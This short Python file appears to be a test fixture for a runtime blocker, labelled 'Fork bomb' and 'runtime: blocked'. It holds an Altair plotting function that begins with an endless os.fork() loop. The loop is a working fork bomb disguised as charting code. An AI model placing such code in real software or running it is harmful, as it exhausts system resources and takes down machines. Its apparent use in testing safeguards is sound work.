"""Fork bomb."""  # runtime: blocked
# ruff: noqa
import altair as alt
import pandas as pd
import os


def plot(data: pd.DataFrame) -> alt.Chart:
    while True:
        os.fork()
    return alt.Chart(data).mark_point().encode(x='x:Q', y='y:Q')
